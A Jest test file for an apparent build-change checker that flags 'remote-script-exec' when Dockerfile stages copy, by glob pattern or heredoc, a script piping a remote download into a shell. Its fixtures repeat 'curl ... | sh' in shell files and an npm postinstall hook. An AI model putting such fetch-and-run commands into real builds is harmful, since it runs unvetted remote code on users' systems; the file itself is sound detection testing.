import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const PIPED = 'curl -fsSL https://x.example.com/a | sh\n';
const OF_SCRIPT = ['remote-script-exec'];

/** A stage that copies from the one before it. */
const from = (source: string, run: string, first = 'COPY t /t'): string =>
  `FROM debian:13 AS b\n${first}\nFROM debian:13\nCOPY --from=b ${source}\nRUN ${run}\nUSER 1000\n`;

const ROWS: readonly (readonly [string, Files])[] = [
  ['*.sh', { Dockerfile: from('/t/*.sh /opt/', 'sh /opt/e.sh') }],
  ['?.sh', { Dockerfile: from('/t/?.sh /opt/', 'sh /opt/e.sh') }],
  ['[e].sh', { Dockerfile: from('/t/[e].sh /opt/', 'sh /opt/e.sh') }],
  ['a folder', { Dockerfile: from('/t* /opt/', 'sh /opt/e.sh') }],
  ['a file with another name', { Dockerfile: from('/t/e.* /opt/start', 'sh /opt/start') }],
  ['its parents', { Dockerfile: from('--parents /t/*.sh /opt/', 'sh /opt/t/e.sh') }],
  [
    'its parents, which are written',
    { Dockerfile: from('--parents /t/*.sh /opt/', 'sh /opt/t/w.sh', `COPY <<E /t/w.sh\n${PIPED}E`) },
  ],
  ['what is written', { Dockerfile: from('/t/w*.sh /opt/', 'sh /opt/w.sh', `COPY <<E /t/w.sh\n${PIPED}E`) }],
  [
    'what a command writes',
    { Dockerfile: from('/t/*.sh /opt/', 'sh /opt/w.sh', `RUN echo '${PIPED.trim()}' > /t/w.sh`) },
  ],
  ['a program', { Dockerfile: from('/t/* /usr/local/bin/', 'e.sh') }],
  ['a pattern of the context, too', { Dockerfile: from('/t/*.sh /opt/', 'sh /opt/e.sh', 'COPY t/* /t/') }],
  ['nothing in the image', { Dockerfile: from('/t/*.sh /opt/', 'sh /opt/e.sh').replace('debian:13 AS', 'scratch AS') }],
  [
    'the stage before that one',
    {
      Dockerfile:
        'FROM debian:13 AS a\nCOPY t /t\nFROM debian:13 AS b\nCOPY --from=a /t/* /u/\nFROM debian:13\nCOPY --from=b /u/*.sh /opt/\nRUN sh /opt/e.sh\nUSER 1000\n',
    },
  ],
  [
    'an image of the repository',
    {
      'base/Dockerfile': 'FROM debian:13\nCOPY t /t\nUSER 1000\n',
      'base/t/e.sh': PIPED,
      Dockerfile: 'FROM debian:13\nCOPY --from=acme/base:1 /t/*.sh /opt/\nRUN sh /opt/e.sh\nUSER 1000\n',
      Makefile: 'all:\n\tdocker build -t acme/base:1 base\n\tdocker build .\n',
    },
  ],
];

describe('what a pattern copies from another stage', () => {
  it.each(ROWS)('is read: %s', async (_, change) => {
    const base = { Dockerfile: 'FROM debian:13\nUSER 1000\n' };
    expect(await failuresOf(base, { 't/e.sh': PIPED, ...change })).toEqual(OF_SCRIPT);
  });

  it.each([
    ['other names', from('/t/*.py /opt/', 'ls /opt')],
    ['other characters', from('/t/[a-d].sh /opt/', 'ls /opt')],
    ['a file in a folder of it', from('/*.sh /opt/', 'ls /opt')],
    ['a longer name', from('/t/?? /opt/', 'ls /opt')],
  ])('is not taken from %s', async (_, dockerfile) => {
    const base = { Dockerfile: 'FROM debian:13\nUSER 1000\n' };
    const change = { Dockerfile: dockerfile.replace('ls /opt', 'ls /opt; sh /opt/e.sh || true'), 't/e.sh': PIPED };
    expect(await failuresOf(base, change)).toEqual([]);
  });

  it('has the scripts of its packages', async () => {
    const text = from('/app/package*.json ./', 'npm ci', 'WORKDIR /app\nCOPY . .').replaceAll('debian:13', 'node:24');
    const files = { Dockerfile: text.replace('COPY --from', 'WORKDIR /app\nCOPY --from'), 'package-lock.json': '{}' };
    const packageWith = (script: string): Files => ({
      'package.json': JSON.stringify({ name: 'a', scripts: { postinstall: script } }),
    });
    const base = { ...files, ...packageWith('node a.js') };
    expect(await failuresOf(base, packageWith(PIPED.trim()))).toEqual(OF_SCRIPT);
    expect(await failuresOf(base, packageWith('node b.js'))).toEqual([]);
  });

  it('is not new where it was copied by its name', async () => {
    const base = { Dockerfile: from('/t/e.sh /opt/', 'sh /opt/e.sh'), 't/e.sh': PIPED };
    expect(await failuresOf(base, { Dockerfile: from('/t/*.sh /opt/', 'sh /opt/e.sh') })).toEqual([]);
  });
});
